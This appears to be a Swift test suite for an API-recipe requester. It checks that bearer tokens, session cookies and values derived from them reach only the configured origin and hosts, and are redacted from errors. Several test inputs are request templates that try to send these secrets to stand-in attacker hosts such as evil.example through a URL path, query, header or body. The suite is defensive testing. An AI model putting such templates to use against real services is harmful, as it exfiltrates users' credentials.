import Base
import HTTP
import Testing

@testable import Upstream
@testable import Wire

/// A web app of a test, whose token is `s3cret-token`.
private func requester() throws -> RecipeRequester {
  let text = """
    apus: provider/v1
    name: jay
    origin: https://jay.example
    hosts: [api.jay.example]
    credentials: {TOKEN: {class: bearer}}
    models: [m]
    sessions: [s3cret-token]
    vars: {MIXED: {expr: "'x-' + cred.TOKEN"}}
    steps: [{id: a, request: {url: "{{origin}}/"}, response: {framing: json, emit: [{to: text, path: t}], finish: [{eof: stop}]}}]
    """
  let mistakes = Mistakes()
  let setting = try #require(Setting.read(Array(text.utf8), name: "test.yaml", into: mistakes))
  let file = try #require(ProviderFile.read(entry: setting, path: "", over: nil, into: mistakes))
  #expect(mistakes.all.map(\.description) == [])
  let provider = try Provider(file, values: [:], origins: Origins(folder: "."))
  let variables = RecipeVariables(try #require(file.recipe), provider.sessions[0], install: provider.store.install)
  variables.found = ["address": JSON("https://files.example/up?id=7"), "SID": JSON("s3cret-cookie")]
  variables.secretNames = ["SID"]
  return RecipeRequester(provider, variables, Client(try EventLoop(index: 0), Resolver()))
}

private func field(_ text: String) throws -> Field {
  let mistakes = Mistakes()
  let setting = try #require(Setting.read(Array("x: \(text)".utf8), name: "t.yaml", into: mistakes))
  return Field(try #require(setting["x"]), path: "x", into: mistakes)
}

/// What goes up, in one text.
private func sent(_ request: String) async throws -> String {
  let request = try #require(StepRequest(try field(request)))
  let (place, made) = try #require(try await requester().render(request, isAnswer: false))
  return place.url.origin + made.view.uri + made.view.headers.map { " \($0.name): \($0.value)" }.joined()
    + " " + String(decoding: made.view.body, as: UTF8.self)
}

@Suite struct `A secret of a recipe` {
  private static let rest = #"headers: {A: "b {{cred.TOKEN}}", B: "{{SID}}"}, body: {json: {t: "{{MIXED}}", n: 1}}"#

  @Test func `goes to the origin and its hosts`() async throws {
    for host in ["{{origin}}", "https://api.jay.example"] {
      let text = try await sent(#"{method: POST, url: "\#(host)/c?t={{cred.TOKEN}}", \#(Self.rest)}"#)
      #expect(
        text.hasSuffix(#"/c?t=s3cret-token Content-Type: application/json A: b s3cret-token B: s3cret-cookie {"t":"x-s3cret-token","n":1}"#)
      )
    }
  }

  @Test func `goes to no other host in a header or a body`() async throws {
    for host in ["https://evil.example/c", "{{address}}", "{{origin}}.evil.example/c", "https://jay.example.evil.example/c"] {
      let text = try await sent(#"{method: POST, url: "\#(host)", \#(Self.rest)}"#)
      #expect(text.hasSuffix(#" Content-Type: application/json {"n":1}"#))
    }
  }

  @Test(arguments: ["cred.TOKEN", "SID", "MIXED", "base64(cred.TOKEN)", "md5('a' + SID)"])
  func `is no part of another host's address`(secret: String) async throws {
    await #expect(throws: Fault.self) { try await sent(#"{url: "https://evil.example/c/{{\#(secret)}}"}"#) }
    let text = try await sent(#"{url: "https://evil.example/c", query: {a: "{{\#(secret)}}", b: "2"}}"#)
    #expect(text == "https://evil.example:443/c?b=2 ")
    let other = try await sent(#"{url: "https://evil.example/c/{{first(\#(secret), 'none')}}"}"#)
    #expect(other == "https://evil.example:443/c/none ")
  }

  @Test func `is not said on another host's WebSocket`() throws {
    let hello = try #require(BodyValue(try field(#"{t: "{{cred.TOKEN}}", m: "{{MIXED}}", n: 1}"#)))
    let requester = try requester()
    #expect(try requester.message(hello, isTrusted: false).map { String(decoding: $0, as: UTF8.self) } == #"{"n":1}"#)
    #expect(try requester.message(hello, isTrusted: true).map { String(decoding: $0, as: UTF8.self) }?.contains("s3cret") == true)
  }

  @Test func `is told in no error, whatever a site says`() throws {
    let session = try requester().variables.session
    session.keep("login", ["ACCESS": "acc3ss-token"], until: nil)
    let fault = session.cleared(Fault(.invalid, "session s3cret-token is odd", detail: "s3cret-token, acc3ss-token; m"))
    #expect(fault.description == "invalid: session [redacted] is odd ([redacted], [redacted]; m)")
  }
}
